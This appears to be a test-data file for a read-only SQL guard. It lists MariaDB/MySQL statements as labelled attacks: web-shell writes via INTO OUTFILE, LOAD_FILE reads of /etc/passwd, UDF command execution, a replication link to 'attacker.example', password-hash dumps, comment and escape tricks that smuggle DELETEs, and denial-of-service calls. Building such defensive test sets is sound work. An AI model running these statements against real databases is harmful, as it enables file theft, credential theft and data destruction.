-- Attacks on MariaDB and MySQL. See attacks-shared.sql for the form of an entry.

--- into outfile: writes a file
SELECT * FROM customers INTO OUTFILE '/tmp/loot'

--- into outfile in the middle: writes a file
SELECT name INTO OUTFILE '/var/www/shell.php' FROM customers

--- into outfile with a terminator: writes a file
SELECT '<?php system(1) ?>' INTO OUTFILE '/var/www/shell.php' LINES TERMINATED BY 'x'

--- into dumpfile: writes a file
SELECT 'x' INTO DUMPFILE '/tmp/loot'

--- into dumpfile of a plugin: writes native code
SELECT x'7f454c46' INTO DUMPFILE '/usr/lib/mysql/plugin/udf.so'

--- into variable: state of the session
SELECT max(id) INTO @m FROM customers

--- into local variable: state of a program
SELECT max(id) INTO m FROM customers

--- into outfile in a union: writes a file
SELECT 1 UNION SELECT 2 INTO OUTFILE '/tmp/loot'

--- into outfile after limit: writes a file
SELECT * FROM customers LIMIT 1 INTO OUTFILE '/tmp/loot'

--- into outfile after order by: writes a file
SELECT * FROM customers ORDER BY id INTO OUTFILE '/tmp/loot' CHARACTER SET utf8

--- into outfile in a subquery: writes a file
SELECT * FROM (SELECT * FROM customers INTO OUTFILE '/tmp/loot') AS x

--- load_file: reads a file
SELECT LOAD_FILE('/etc/passwd')

--- load_file in hex: reads a file
SELECT LOAD_FILE(0x2F6574632F706173737764)

--- load_file by char: reads a file
SELECT LOAD_FILE(CHAR(47, 101, 116, 99))

--- load_file with a space before the parenthesis: reads a file
SELECT LOAD_FILE ('/etc/passwd')

--- load_file in where: reads a file
SELECT 1 FROM customers WHERE LOAD_FILE('/etc/passwd') LIKE 'root%'

--- load data: reads a file into a table
LOAD DATA INFILE '/etc/passwd' INTO TABLE customers

--- load data local: reads a file of the client
LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE customers

--- load xml: reads a file into a table
LOAD XML INFILE '/tmp/x.xml' INTO TABLE customers

--- sleep: waits
SELECT SLEEP(3600)

--- sleep in where: waits for each row
SELECT * FROM customers WHERE SLEEP(1) = 0

--- sleep in a case: waits when the guess is right
SELECT CASE WHEN (SELECT count(*) FROM customers) > 3 THEN SLEEP(10) ELSE 0 END

--- sleep in order by: waits for each row
SELECT * FROM customers ORDER BY SLEEP(1)

--- sleep in if: waits when the guess is right
SELECT IF(1 = 1, SLEEP(10), 0)

--- benchmark: computes for ever
SELECT BENCHMARK(1000000000, MD5('x'))

--- get_lock: locks
SELECT GET_LOCK('loot', 3600)

--- release_lock: unlocks
SELECT RELEASE_LOCK('loot')

--- release_all_locks: unlocks
SELECT RELEASE_ALL_LOCKS()

--- is_used_lock: tells about the server
SELECT IS_USED_LOCK('loot')

--- master_pos_wait: waits
SELECT MASTER_POS_WAIT('x', 1, 3600)

--- master_gtid_wait: waits
SELECT MASTER_GTID_WAIT('0-1-1', 3600)

--- sys_exec: runs a program
SELECT sys_exec('id')

--- sys_eval: runs a program
SELECT sys_eval('id')

--- lib_mysqludf_sys: runs a program
SELECT do_system('id')

--- user: tells the login
SELECT USER()

--- current_user: tells the login
SELECT CURRENT_USER

--- current_user with parentheses: tells the login
SELECT CURRENT_USER()

--- session_user: tells the login
SELECT SESSION_USER()

--- database: tells the database
SELECT DATABASE()

--- version: tells about the server
SELECT VERSION()

--- connection_id: tells about the server
SELECT CONNECTION_ID()

--- last_insert_id: state of the session
SELECT LAST_INSERT_ID()

--- last_insert_id with a value: changes state of the session
SELECT LAST_INSERT_ID(42)

--- row_count: state of the session
SELECT ROW_COUNT()

--- found_rows: state of the session
SELECT FOUND_ROWS()

--- uuid_short: takes a number
SELECT UUID_SHORT()

--- nextval: a write
SELECT NEXTVAL(loot)

--- next value for: a write
SELECT NEXT VALUE FOR loot

--- lastval: state of a sequence
SELECT LASTVAL(loot)

--- setval: a write
SELECT SETVAL(loot, 1)

--- extractvalue: data in an error message
SELECT EXTRACTVALUE(1, CONCAT(0x7e, (SELECT max(email) FROM customers)))

--- updatexml: data in an error message
SELECT UPDATEXML(1, CONCAT(0x7e, (SELECT max(email) FROM customers)), 1)

--- name_const: data in an error message
SELECT NAME_CONST('x', 1)

--- des_decrypt: reads keys
SELECT DES_DECRYPT('x')

--- password: makes a password
SELECT PASSWORD('x')

--- mysql.user: tells passwords
SELECT user, authentication_string FROM mysql.user

--- mysql.global_priv: tells passwords
SELECT * FROM mysql.global_priv

--- mysql.user with backticks: tells passwords
SELECT * FROM `mysql`.`user`

--- mysql.user with a comment in the name: tells passwords
SELECT * FROM mysql/**/./**/user

--- mysql.proc: tells code
SELECT body FROM mysql.proc

--- mysql.servers: tells other servers
SELECT * FROM mysql.servers

--- mysql.general_log: tells what others asked
SELECT argument FROM mysql.general_log

--- mysql.innodb_table_stats: tells the tables
SELECT * FROM mysql.innodb_table_stats

--- performance_schema: tells what others ask
SELECT * FROM performance_schema.events_statements_history

--- sys schema: tells about the server
SELECT * FROM sys.schema_table_statistics

--- information_schema.processlist: tells what others ask
SELECT * FROM information_schema.processlist

--- information_schema.user_privileges: tells rights
SELECT * FROM information_schema.USER_PRIVILEGES

--- information_schema.files: tells paths
SELECT * FROM information_schema.FILES

--- information_schema with backticks: tells the tables
SELECT * FROM `information_schema`.`tables`

--- system table behind a cte: a qualified name never means a CTE
WITH user AS (SELECT 1) SELECT * FROM mysql.user

--- table name with a backtick inside: another name than it looks
SELECT * FROM `customers`` JOIN mysql.user -- `

--- version comment around a union: MySQL runs what is inside
SELECT name FROM customers /*!UNION SELECT password FROM mysql.user*/

--- version comment inside a keyword: MySQL runs what is inside
SEL/*!ECT*/ 1

--- version comment that ends a string: MySQL runs what is inside
SELECT '/*!', 1 /*!, SLEEP(10) */, '*/'

--- version comment with a low version: MySQL runs what is inside
SELECT 1 /*!00000 , LOAD_FILE('/etc/passwd') */

--- version comment with a space: an executable comment all the same
SELECT 1 /*! , SLEEP(10) */

--- mariadb comment: MariaDB runs what is inside
SELECT 1 /*M! , SLEEP(10) */

--- mariadb comment with a version: MariaDB runs what is inside
SELECT 1 /*M!50101 , SLEEP(10) */

--- version comment with a stacked statement: MySQL runs what is inside
SELECT 1 /*!; DELETE FROM order_items */

--- comment in a comment: the inner one ends both
SELECT 1 /* /* */ , SLEEP(10) -- */

--- optimizer hint sets a variable: changes the settings for the statement
SELECT /*+ SET_VAR(max_execution_time=0) */ * FROM customers

--- optimizer hint lifts the time limit: runs for ever
SELECT /*+ MAX_EXECUTION_TIME(0) */ * FROM customers

--- set statement for: changes the settings for the statement
SET STATEMENT max_statement_time = 0 FOR SELECT * FROM customers

--- hash comment hides the end: a comment in MySQL only
SELECT 1 #' UNION SELECT 2 -- '

--- hash comment between: the next line is code
SELECT name FROM customers #
UNION SELECT password FROM mysql.user

--- double minus without a space: a sum in MySQL, a comment elsewhere
SELECT 1--SLEEP(10)

--- backslash hides a quote: the string goes on in MySQL
SELECT * FROM customers WHERE name = '\' OR SLEEP(10) -- '

--- backslash hides a double quote: the string goes on in MySQL
SELECT * FROM customers WHERE name = "\" OR SLEEP(10) -- "

--- two backslashes at the end: the string ends in MySQL, and elsewhere too
SELECT * FROM customers WHERE name = 'a\\' AND SLEEP(10) AND 'b' = 'b'

--- double quotes around an apostrophe: a string in MySQL, a name elsewhere
SELECT * FROM customers WHERE name = "x'" OR SLEEP(10) OR "'" = "x"

--- character set introducer: bytes are read in another way
SELECT _latin1'x' COLLATE latin1_bin

--- character set introducer with hex: other characters than are written
SELECT _utf8mb4 0x27

--- national string: another character set
SELECT N'x', n'\''

--- hex string: other characters than are written
SELECT X'27'

--- bit string: not a number
SELECT b'101', 0b101

--- user variable in a subquery: state of the session
SELECT (SELECT @a := count(*) FROM customers)

--- user variable in where: state of the session
SELECT * FROM customers WHERE (@a := id) > 0

--- global variable: tells the settings
SELECT @@GLOBAL.secure_file_priv

--- session variable: tells the settings
SELECT @@session.sql_mode

--- data directory: tells a path
SELECT @@datadir

--- quoted user variable: state of the session
SELECT @`a b`

--- procedure analyse: runs a procedure
SELECT * FROM customers PROCEDURE ANALYSE()

--- procedure analyse with sleep: runs a procedure
SELECT * FROM customers PROCEDURE ANALYSE(EXTRACTVALUE(1, SLEEP(5)), 1)

--- lock in share mode: locks rows
SELECT * FROM customers LOCK IN SHARE MODE

--- for update wait: locks rows
SELECT * FROM customers FOR UPDATE WAIT 60

--- for update nowait: locks rows
SELECT * FROM customers FOR UPDATE NOWAIT

--- for update in a derived table: locks rows
SELECT count(*) FROM (SELECT id FROM customers FOR UPDATE) AS x

--- high priority: goes before writers
SELECT HIGH_PRIORITY * FROM customers

--- sql_calc_found_rows: state of the session
SELECT SQL_CALC_FOUND_ROWS * FROM customers LIMIT 1

--- sql_no_cache: changes the cache
SELECT SQL_NO_CACHE * FROM customers

--- partition: another part of a table
SELECT * FROM customers PARTITION (p0)

--- for system_time: former rows
SELECT * FROM customers FOR SYSTEM_TIME ALL

--- handler open: reads without SELECT
HANDLER customers OPEN

--- handler read: reads without SELECT
HANDLER customers READ FIRST

--- do: computes without an answer
DO SLEEP(3600)

--- MariaDB call: runs a procedure
CALL mysql.rds_kill(1)

--- kill: ends other sessions
KILL 12345

--- kill query: stops others' statements
KILL QUERY 12345

--- shutdown: ends the server
SHUTDOWN

--- flush: changes the server
FLUSH PRIVILEGES

--- flush tables with read lock: stops everybody
FLUSH TABLES WITH READ LOCK

--- reset master: loses the logs
RESET MASTER

--- change master: calls another server
CHANGE MASTER TO MASTER_HOST = 'attacker.example'

--- install plugin: runs native code
INSTALL PLUGIN evil SONAME 'evil.so'

--- create function soname: runs native code
CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'udf.so'

--- create event: code that stays
CREATE EVENT loot ON SCHEDULE EVERY 1 DAY DO DELETE FROM order_items

--- create trigger: code that stays
CREATE TRIGGER loot BEFORE INSERT ON orders FOR EACH ROW SET NEW.status = 'x'

--- create procedure: code that stays
CREATE PROCEDURE loot() DELETE FROM order_items

--- create temporary table: allowed in a read-only transaction
CREATE TEMPORARY TABLE loot SELECT * FROM customers

--- create or replace table: loses a table
CREATE OR REPLACE TABLE customers (id INT)

--- replace into: changes a row
REPLACE INTO customers SELECT * FROM customers

--- insert on duplicate key: changes a row
INSERT INTO products SELECT * FROM products ON DUPLICATE KEY UPDATE price = 0

--- insert ignore: adds rows
INSERT IGNORE INTO order_items SELECT order_id + 100, product_id, quantity, unit_price FROM order_items

--- insert set: adds a row
INSERT INTO customers SET id = 99

--- delete from two tables: removes rows
DELETE o, i FROM orders o JOIN order_items i ON i.order_id = o.id

--- delete returning: removes rows and looks like a query
DELETE FROM order_items RETURNING order_id

--- update with a join: changes rows
UPDATE orders o JOIN customers c ON c.id = o.customer_id SET o.status = 'x'

--- update with limit: changes rows
UPDATE orders SET status = 'x' ORDER BY id LIMIT 1

--- rename table: renames a table
RENAME TABLE customers TO loot

--- optimize table: writes the files
OPTIMIZE TABLE customers

--- analyze table: writes statistics
ANALYZE TABLE customers

--- repair table: writes the files
REPAIR TABLE customers

--- check table: reads the files
CHECK TABLE customers

--- checksum table: not a query
CHECKSUM TABLE customers

--- lock tables: stops others
LOCK TABLES customers WRITE

--- unlock tables: ends the transaction
UNLOCK TABLES

--- start transaction: opens a transaction
START TRANSACTION READ WRITE

--- set session transaction read write: leaves the read-only transaction
SET SESSION TRANSACTION READ WRITE

--- set global: changes the server
SET GLOBAL general_log = 'ON'

--- set sql_mode: changes how quotes are read
SET sql_mode = 'NO_BACKSLASH_ESCAPES'

--- set names: changes how text is read
SET NAMES gbk

--- set password: changes a login
SET PASSWORD = PASSWORD('x')

--- xa start: opens a transaction
XA START 'loot'

--- show grants: tells rights
SHOW GRANTS

--- show processlist: tells what others ask
SHOW FULL PROCESSLIST

--- show variables: tells the settings
SHOW VARIABLES LIKE 'secure%'

--- show create table: not a query
SHOW CREATE TABLE customers

--- explain: not a query
EXPLAIN SELECT * FROM customers

--- analyze statement: runs what it explains
ANALYZE FORMAT=JSON DELETE FROM order_items

--- MariaDB describe: not a query
DESC customers

--- help: reads help
HELP 'x'

--- prepare from: code out of a string
PREPARE x FROM 'DELETE FROM order_items'

--- MariaDB execute immediate: code out of a string
EXECUTE IMMEDIATE CONCAT('DELETE FROM ', 'order_items')

--- delimiter: changes how statements are told apart
DELIMITER // DELETE FROM order_items //

--- begin not atomic: a program
BEGIN NOT ATOMIC DELETE FROM order_items; END

--- stacked with a variable: builds code out of hex
SET @a = 0x44454C455445; PREPARE x FROM @a; EXECUTE x

--- stacked outfile: writes a file after a harmless statement
SELECT 1; SELECT 'x' INTO OUTFILE '/tmp/loot'

--- stacked after a backslash: the string ends earlier than it looks
SELECT 'a\\'; DELETE FROM order_items; -- '

--- system command of the client: runs a program
\! id

--- source command of the client: runs a file
source /tmp/evil.sql

--- json_table: rows out of a text
SELECT * FROM JSON_TABLE((SELECT max(authentication_string) FROM mysql.user), '$[*]' COLUMNS (a TEXT PATH '$')) AS t

--- group_concat with a subquery: not in the catalogue
SELECT GROUP_CONCAT((SELECT max(user) FROM mysql.user) SEPARATOR ',') FROM customers

--- group_concat ordered by a call: waits
SELECT GROUP_CONCAT(name ORDER BY SLEEP(1) SEPARATOR ',') FROM customers

--- call in an interval: waits
SELECT DATE_ADD(ordered_at, INTERVAL SLEEP(1) DAY) FROM orders

--- call in limit: waits
SELECT * FROM customers LIMIT SLEEP(1)

--- call in match against: waits
SELECT * FROM customers WHERE MATCH (name) AGAINST (SLEEP(1))

--- call in convert: waits
SELECT CONVERT(SLEEP(1) USING utf8mb4)

--- call in trim: waits
SELECT TRIM(LEADING SLEEP(1) FROM name) FROM customers

--- call in regexp: waits
SELECT * FROM customers WHERE name REGEXP SLEEP(1)

--- call in collate: waits
SELECT SLEEP(1) COLLATE utf8mb4_bin

--- repeat: takes all memory
SELECT REPEAT('x', 1000000000)

--- rpad: takes all memory
SELECT RPAD('x', 1000000000, 'y')

--- space: takes all memory
SELECT SPACE(1000000000)

--- own function: nobody knows what it does
SELECT shop.delete_all()

--- values of insert: only in INSERT
SELECT VALUES(id) FROM customers

--- null-safe equality with a call: waits
SELECT * FROM customers WHERE id <=> SLEEP(1)

--- division by a call: waits
SELECT 10 DIV SLEEP(1)

--- member of: a text that is read as JSON
SELECT 1 MEMBER OF (LOAD_FILE('/etc/passwd'))

--- spider_direct_sql: runs code on another server
SELECT SPIDER_DIRECT_SQL('DELETE FROM t', '', 'host "db"')

--- cte in another case: on Linux the names of tables differ by case
WITH Payroll AS (SELECT 1 AS a) SELECT * FROM payroll

--- cte in another case, reserved by the parser: on Linux the names of tables differ by case
WITH Final AS (SELECT 1 AS a) SELECT * FROM final

--- two slashes: a comment to the parser only
SELECT 1 // SLEEP(10)

--- alias that is a list of partitions: another part of a table
SELECT * FROM customers PARTITION (p0, p1)

--- convert with a call in the place of the type: the parser reads it as a type
SELECT CONVERT(SLEEP(10), CHAR)

--- call in the length of a text: another place to call
SELECT LPAD(name, SLEEP(1), 'x') FROM customers

--- dot inside a backticked name: one name here, schema and table to the parser
SELECT * FROM `shop.orders`

--- text in double quotes in the place of a table: a name to the parser
SELECT * FROM "customers"

--- character set introducer with a space: bytes are read in another way
SELECT _gbk "x"
